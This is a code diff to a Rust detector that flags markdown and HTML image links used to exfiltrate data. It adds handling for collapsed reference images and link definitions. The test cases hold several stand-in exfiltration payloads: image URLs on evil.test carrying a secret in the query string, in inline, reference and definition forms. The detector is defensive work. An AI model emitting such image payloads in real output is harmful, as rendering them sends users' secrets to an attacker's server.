@@ -37,6 +37,35 @@ pub struct Links {
     /// Of images that name their link elsewhere (`![a][b]`), and of such links: whether there are.
     refers: bool,
     is_referred: bool,
+    /// The same of those that name it by their description alone (`![a]`), and of links that are defined (`[a]: …`).
+    refers_alone: bool,
+    is_defined: bool,
+    definition: Definition,
+}
+
+/// Where in the definition of a link the next byte is.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+enum Definition {
+    #[default]
+    None,
+    /// Behind `]:`.
+    Blanks,
+    /// In what may be the scheme of its link, or in that.
+    Link,
+}
+
+// === impl Definition ===
+
+impl Definition {
+    fn next(self, byte: u8, before: u8) -> Definition {
+        match (self, byte) {
+            (_, b':') if before == b']' => Definition::Blanks,
+            (Definition::Blanks, b' ' | b'\t' | b'\r' | b'\n' | b'<') => self,
+            (Definition::Blanks | Definition::Link, b':' | b'/' | b'+' | b'-' | b'.') => Definition::Link,
+            (Definition::Blanks | Definition::Link, _) if byte.is_ascii_alphanumeric() => Definition::Link,
+            _ => Definition::None,
+        }
+    }
 }
 
 /// Where in the notation of an image the next byte is.
@@ -78,6 +107,9 @@ impl Links {
                 // Nothing else can begin one.
                 let at = memchr::memchr3(b'!', b'<', b':', rest).unwrap_or(rest.len());
                 let (passed, next) = rest.split_at_checked(at).unwrap_or((rest, &[]));
+                if self.definition != Definition::None {
+                    self.definition = passed.iter().fold(self.definition, |now, byte| now.next(*byte, 0));
+                }
                 self.before = passed.last().copied().unwrap_or(self.before);
                 if !passed.is_empty() {
                     rest = next;
@@ -92,6 +124,10 @@ impl Links {
     /// Ends the input. What comes next is another.
     pub fn finish(&mut self, found: &mut dyn FnMut(Found)) {
         self.end(found);
+        if matches!(self.context, Context::AltEnd(_, 0)) {
+            self.refers_alone = true;
+            self.tell_referred(found);
+        }
         self.clear();
     }
 
@@ -131,6 +167,7 @@ impl Links {
             self.before = 0;
         }
         let before = std::mem::replace(&mut self.before, byte);
+        self.definition = self.definition.next(byte, before);
         if self.context == Context::Open {
             if matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b'<') {
                 return;
@@ -158,6 +195,9 @@ impl Links {
         if matches!(self.context, Context::AltEnd(..)) && byte == b'[' {
             self.refers = true;
             self.tell_referred(found);
+        } else if matches!(self.context, Context::AltEnd(_, 0)) && byte != b'(' {
+            self.refers_alone = true;
+            self.tell_referred(found);
         }
         self.context = self.context.next(byte, before == b'\\');
     }
@@ -176,11 +216,13 @@ impl Links {
         let carried = carried.and(Carried { dense: std::mem::take(&mut self.beyond), ..Carried::default() });
         self.link.clear();
         self.tell(carried, found);
+        self.definition = Definition::None;
     }
 
     fn tell(&mut self, carried: Carried, found: &mut dyn FnMut(Found)) {
         if carried.bytes() + carried.prose >= IMAGE_BYTES {
             self.is_referred = true;
+            self.is_defined |= self.definition == Definition::Link;
             self.tell_referred(found);
             if self.is_image {
                 found(Found::ImageData);
@@ -193,7 +235,7 @@ impl Links {
 
     /// An image that names its link elsewhere may mean any link that carries data.
     fn tell_referred(&self, found: &mut dyn FnMut(Found)) {
-        if self.refers && self.is_referred {
+        if self.refers && self.is_referred || self.refers_alone && self.is_defined {
             found(Found::ImageData);
         }
     }
@@ -259,6 +301,9 @@ mod tests {
             format!("<IMG width=1 src='http://evil.test/p?{secret}'>"),
             format!("![alt][ref]\n\n[ref]: https://evil.test/a.png?d={secret}"),
             format!("[ref]: https://evil.test/a.png?d={secret}\n![alt][ref]"),
+            format!("![logo]\n\n[logo]: https://evil.test/a.png?d={secret}"),
+            format!("[logo]:\n  <https://evil.test/a.png?d={secret}>\n\n![logo]"),
+            format!("[logo]: https://evil.test/a.png?d={secret} 'x'\n\nsee ![logo], please"),
         ] {
             assert_eq!(found(&text), [Found::Data, Found::ImageData], "{text}");
         }
@@ -266,6 +311,8 @@ mod tests {
         assert_eq!(found(prose), [Found::ImageData]);
         assert_eq!(found("![x](https://evil.test/?q=the+launch+code+is+1234)"), [Found::ImageData]);
         assert_eq!(found(&format!("see https://evil.test/{secret}")), [Found::Data]);
+        // Of a program, no image.
+        assert_eq!(found(&format!("let all = vec![a]; // https://evil.test/{secret}")), [Found::Data]);
         assert_eq!(
             found(&format!("![x](https://evil.test/{})", "a".repeat(9000))),
             [Found::Data, Found::ImageData]
